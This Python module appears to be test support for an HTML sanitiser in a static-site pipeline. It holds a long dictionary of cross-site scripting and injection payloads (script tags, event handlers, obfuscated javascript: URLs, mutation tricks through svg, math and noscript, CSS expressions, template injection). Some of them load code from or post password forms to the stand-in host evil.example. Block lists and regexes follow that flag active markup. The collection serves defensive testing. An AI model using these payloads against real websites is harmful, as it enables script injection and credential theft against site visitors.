"""Markup that tries to run, load or be obeyed, and what may never be left of it."""

import re

from selectolax.lexbor import LexborHTMLParser

SNIPPETS = {
    # scripts
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script cut off": "<script>alert(1)//",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script/y>",
    "module": '<script type="module">import "//evil.example/m.js"</script>',
    "template script": '<script type="text/template"><p onclick=x></p></script>',
    # handlers
    "onclick": "<p onclick=alert(1)>甲</p>",
    "onerror": "<img src=//n.sinaimg.cn/a.png onerror=alert(1)>",
    "onload without spaces": "<img/src=//n.sinaimg.cn/a.png/onload=alert(1)>",
    "handler in capitals": "<b ONMOUSEOVER='alert(1)'>甲</b>",
    "handler after a line end": "<b\nonfocus\n=\nalert(1) tabindex=1 autofocus>甲</b>",
    "handler of a details": "<details open ontoggle=alert(1)>甲</details>",
    "handler of an animation": "<u onanimationstart=alert(1) style=animation:x>甲</u>",
    "handler of a body": "<body onload=alert(1)><p>甲</p>",
    "handler in a quoted name": '<img title="x"onerror="alert(1)" src=\'//a.cn/b\'>',
    "handler of an unknown element": "<xss onpointerover=alert(1)>甲</xss>",
    # addresses
    "javascript": '<a href="javascript:alert(1)">甲</a>',
    "javascript in mixed case": '<a href="JaVaScRiPt:alert(1)">甲</a>',
    "javascript as entities": '<a href="&#106;avascript&colon;alert(1)">甲</a>',
    "javascript with a tab": '<a href="java&#9;script:alert(1)">甲</a>',
    "javascript with line ends": '<a href="\njava\nscript\n:alert(1)">甲</a>',
    "javascript after controls": '<a href=" &#1;&#14;javascript:alert(1)">甲</a>',
    "javascript after no-break": '<a href="&nbsp;javascript:alert(1)">甲</a>',
    "javascript with a host": '<a href="javascript://a.cn/%0aalert(1)">甲</a>',
    "javascript doubled": '<a href="javascript:javascript:alert(1)">甲</a>',
    "javascript with zero width": '<a href="java\u200bscript:alert(1)">甲</a>',
    "javascript with nul": '<a href="java\0script:alert(1)">甲</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">甲</a>',
    "livescript": '<a href="livescript:x">甲</a>',
    "data page": '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
    "data picture": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "blob": '<a href="blob:https://a.cn/1-2">甲</a>',
    "file": '<img src="file:///etc/hostname">',
    "view-source": '<a href="view-source:https://a.cn/">甲</a>',
    "javascript picture": '<img src="javascript:alert(1)">',
    "lazy javascript": '<img data-src="javascript:alert(1)" src=x:y>',
    "javascript in data-link": '<img src=//a.cn/b data-link="javascript:alert(1)">',
    "srcset": '<img src="//a.cn/b" srcset="javascript:alert(1) 2x">',
    "background": '<table background="javascript:alert(1)"><tr><td>甲</table>',
    "formaction": "<button formaction=javascript:alert(1)>甲</button>",
    "form": "<form action=//evil.example/><input name=p type=password></form>",
    "ping": '<a href="//a.cn" ping="//evil.example/">甲</a>',
    "area": "<map><area href=javascript:alert(1)></map>",
    "cite": '<blockquote cite="javascript:alert(1)">甲</blockquote>',
    "relative in data-link": '<img src=//a.cn/b data-link="\'><script>">',
    "javascript in a class": '<p class="javascript:alert(1)" align="data:x,y">甲</p>',
    "javascript in an id": "<p id=javascript:alert(1) cms-style=vbscript:x>甲</p>",
    "javascript in sizes": "<td width=javascript:x height='1\" onclick=alert(1)'>甲",
    "javascript in a font": "<font face='javascript:x' size=+1; color=url(x)>甲</font>",
    # names that scripts of the page know
    "id of the document": "<a id=location href=//a.cn>甲</a><p id=cookie>乙</p>",
    "id of a prototype": "<p id=__proto__>甲</p><p id=constructor>乙</p>",
    "id of a theme's part": "<p id=u-search>甲</p><p id=pjax-container>乙</p>",
    "id of a setting": '<a id=CONFIG href="//evil.example/x.js">甲</a>',
    "class with a loader": '<a class="fancybox fancybox.ajax" href=//a.cn/b>甲</a>',
    "language": '<p lang="&lt;/script&gt;" title="{{ 7*7 }}">甲</p>',
    "quote in an address": """<img src="https://a.cn/'onerror='alert(1)">""",
    # frames, plug-ins and the page's own head
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="//evil.example/x"><param name=a value=b></object>',
    "embed": "<embed src=//evil.example/x>",
    "applet": '<applet code="x.class">甲</applet>',
    "frameset": "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
    "base": '<base href="https://evil.example/"><a href="x">甲</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "link": '<link rel="stylesheet" href="//evil.example/x.css">',
    "import": "<link rel=import href=//evil.example/x.html>",
    "video": '<video src=//a.cn/v onloadstart=alert(1) poster="javascript:x"></video>',
    "audio": "<audio src=x onerror=alert(1)></audio>",
    "dialog": "<dialog open onclose=alert(1)>甲</dialog>",
    "portal": "<portal src=//evil.example></portal>",
    # foreign content and what parsers see differently
    "svg": "<svg onload=alert(1)><circle r=9></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>甲</text></a></svg>',
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,x#y"></use></svg>',
    "svg foreign object": "<svg><foreignObject><p onclick=x>甲</p></svg>",
    "svg style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "svg title": "<svg><title><style><img src=x onerror=alert(1)></style></svg>",
    "math": '<math><mtext><a href="javascript:alert(1)">甲</a></mtext></math>',
    "math mutation": "<math><mtext><table><mglyph><style><!--</style><img title="
    '"--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "math annotation": '<math><annotation-xml encoding="text/html"><p onclick=x>甲',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p>',
    "textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "title element": "<title><img src=x onerror=alert(1)></title><p>甲</p>",
    "template": "<template><script>alert(1)</script></template>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "listing": "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "select": "<select><option><style></option></select><img src=x onerror=alert(1)>",
    "marquee": "<p><marquee onstart=alert(1)><p>甲</marquee>",
    "nested forms": "<form><div></form><form><style></form><script>alert(1)</script>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><p>甲</p>",
    "processing instruction cut off": "<?import namespace=<p onclick=alert(1)>甲</p>",
    "processing instruction with dashes": "<?a --!?><?b -- c?>",
    "processing instruction of a server": "<?php echo 1 ?><?= 1 ?><? more ?>甲",
    "doctype": "<!DOCTYPE html [<!ENTITY x 'y'>]><p>甲</p>",
    "end tags": "</div></article></body></html><p>甲</p>",
    "plaintext": "<p>甲</p><plaintext><script>alert(1)</script>",
    # styles
    "style url": '<p style="background:url(javascript:alert(1))">甲</p>',
    "style escape": r'<p style="background-color:\75\72\6c(x)">甲</p>',
    "style comment": '<p style="wid/**/th:expr/**/ession(alert(1))">甲</p>',
    "style expression": '<p style="width:expression(alert(1))">甲</p>',
    "style binding": '<p style="-moz-binding:url(//evil.example/x#y)">甲</p>',
    "style behaviour": '<p style="behavior:url(x.htc)">甲</p>',
    "style overlay": '<div style="position:fixed;top:0;left:0;z-index:9">甲</div>',
    "style capitals": '<p style="POSITION:ABSOLUTE;WIDTH:1px">甲</p>',
    "style image-set": "<p style=\"list-style-image:image-set('x' 1x)\">甲</p>",
    "style var": '<p style="color:var(--x, url(//evil.example))">甲</p>',
    "sheet import": "<style>@import '//evil.example/x.css';</style>",
    "sheet url": "<style>.a{background:url(//evil.example)}</style>",
    "sheet for all": "<style>body{display:none}</style>",
    "sheet attribute": "<style>input[value^=a]{color:red}</style>",
    "sheet breakout": "<style>.a{color:red}</style><script>alert(1)</script></style>",
    "sheet comment": "<style><!--</style><script>alert(1)</script>--></style>",
    "sheet position": "<style>.a{position:fixed}</style>",
    # comments
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "short comment": "<!--><img src=x onerror=alert(1)>-->",
    "dashed comment": "<!---><img src=x onerror=alert(1)>-->",
    "odd comment end": "<!-- x --!><img src=x onerror=alert(1)>-->",
    "open comment": "<!-- <img src=x onerror=alert(1)>",
    "excerpt mark": "<!-- more --><p>甲</p>",
    "excerpt mark in capitals": "<!--MORE--><p>甲</p>",
    "generator comment": "<!--swig\ufffc0--><p>甲</p>",
    "generator comment as text": "&lt;!--swig&#xFFFC;0--&gt;",
    # the generator's own syntax
    "nunjucks output": "<p>{{ 7*7 }}</p>",
    "nunjucks tag": "<p>{% for i in range(9) %}x{% endfor %}</p>",
    "nunjucks comment": "<p>{# x #}</p>",
    "nunjucks raw end": "<p>{% endraw %}{{ 1 }}</p>",
    "nunjucks in an attribute": '<p title="{{ 7*7 }}" class="{%x%}">甲</p>',
    "nunjucks in an address": '<a href="https://a.cn/{{7*7}}">甲</a>',
    "nunjucks as entities": "<p>&#123;&lbrace; 7*7 &rcub;&#x7d;</p>",
    "nunjucks in a comment": "<!-- {{ 7*7 }} --><p>甲</p>",
    "nunjucks in a style": "<style>.a{{ 7*7 }}</style>",
    "nunjucks apart": "<p>{</p><p>{ 7*7 }<b>}</b></p>",
    "code fence": "<p>\n```js\nprocess.exit(1)\n```\n</p>",
    "tilde fence": "<p>\n~~~\nx\n~~~\n</p>",
    "code block element": "<hexoPostRenderCodeBlock><p onclick=x>甲",
    "cdata end": "<p>甲 ]]> 乙 ]]&gt; 丙</p>",
    "front matter": "\n---\ntitle: evil\nlayout: false\n---\n<p>甲</p>",
    "controls": "<p>\x01\x08\x0c\ufffc\u202e\U000e0041甲&#12;&#x202e;&#xFFFF;</p>",
}
"""Own inventions after the known kinds, by what each tries."""

_FORBIDDEN = set(
    "script noscript iframe frame frameset object embed applet param form input button"
    " select option textarea link meta base template svg math title head xmp noembed"
    " plaintext canvas dialog portal video audio source area map marquee".split()
)
_SAFE_ATTRIBUTES = set(
    "href src alt title class id style cms-style align data-link width height border"
    " cellpadding cellspacing bgcolor colspan rowspan valign nowrap color size face"
    " referrerpolicy span start type".split()
)
_STYLE = re.compile(
    r"url|expression|position|behavior|binding|image|var\(|\\|/\*|@", re.IGNORECASE
)
_COMMENT = re.compile(r"[<>\[]|--|^\?")
_TEXT = re.compile(
    r"[{}\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\ufffc\ufffe\uffff"
    r"\ud800-\udfff\U000e0000-\U000e007f]|```|~~~|\]\]>|<!--\s*more",
    re.IGNORECASE,
)


_VALUES = {
    "href": r"https?://[^\s'\"<>]+",
    "src": r"https?://[^\s'\"<>]+",
    "data-link": r"(https?://[^\s'\"<>]+)?",
    # A word alone may be the name of something a script looks for.
    "id": r"([A-Za-z0-9]*(\d|_)\w*)?",
    "alt": r"[^<>'\"]*",
    "title": r"[^<>'\"]*",
    "style": r"[^<>{}]*",
}
_PLAIN_VALUE = r"[\w\s,.#%+-]*"
_STRUCTURE = set(
    "href src alt width height referrerpolicy colspan rowspan start".split()
)


def what_is_more_than_structure(html: str) -> list[str]:
    """List everything in a reading version that only looks or is looked for."""
    tree = LexborHTMLParser(f"<div>{html}</div>", is_fragment=True)
    found = [f"<{node.tag}>" for node in tree.css("style, font, center, big, small")]
    for node in tree.root.traverse():
        found += ["comment"] if node.is_comment_node else []
        found += sorted(set(node.attributes) - _STRUCTURE)
    return found


def what_is_active(html: str) -> list[str]:
    """List everything in a body that could run, load, cover or be obeyed."""
    tree = LexborHTMLParser(f"<div>{html}</div>", is_fragment=True)
    found = [mark[0] for mark in _TEXT.finditer(html)]
    for node in tree.root.traverse(include_text=True):
        if node.is_comment_node and _COMMENT.search(node.comment_content or ""):
            found.append(f"comment {node.comment_content}")
        if node.is_element_node:
            found += _of_element(node.tag, node.attributes)
    sheets = [sheet.text() for sheet in tree.css("style")]
    return found + [f"style {sheet}" for sheet in sheets if _STYLE.search(sheet)]


def _of_element(tag: str, attributes: dict[str, str | None]) -> list[str]:
    found = [f"<{tag}>"] if tag in _FORBIDDEN else []
    for name, value in attributes.items():
        wrong = name not in _SAFE_ATTRIBUTES
        wrong |= not re.fullmatch(_VALUES.get(name, _PLAIN_VALUE), value or "")
        wrong |= name == "style" and bool(_STYLE.search(value or ""))
        found += [f"<{tag} {name}={value!r}>"] if wrong else []
    return found
